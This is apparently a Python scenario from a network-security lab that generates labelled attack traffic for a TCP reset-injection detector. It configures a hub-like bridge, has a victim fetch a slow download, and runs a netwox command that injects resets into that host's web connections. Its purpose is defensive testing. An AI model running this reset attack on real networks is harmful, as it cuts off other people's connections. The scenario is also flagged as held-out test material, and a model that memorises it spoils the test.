"""netwox resets whatever one person does."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.inside("pc4")
    www = net.web(net.outside("www"))
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    net.loop(victim, f"curl -s -m 9 --limit-rate 40k -o /dev/null http://{www.ip}/report.pdf", 0.7)
    net.quiet(2)
    with net.attack(
        "rst-injection",
        by=attacker,
        victims=[victim, www],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [victim, www]},
        frames="tcp and tcp[tcpflags] & tcp-rst != 0",
        responses=f"tcp and host {victim.ip} and port 80",
    ):
        words = ["netwox", "78", "-d", "eth0", "-f", f"host {victim.ip} and tcp port 80", "-s", "linkb"]
        net.tool(attacker, *words, seconds=9)
    net.quiet(3)


SCENARIO = Scenario(
    name="rst-injection-held-netwox",
    about="netwox on a shared medium resets one person's slow downloads from a server outside.",
    detectors=("rst-injection",),
    tools={"netwox": "netwox"},
    held_out=True,
    snap_octets=96,
    run=run,
)
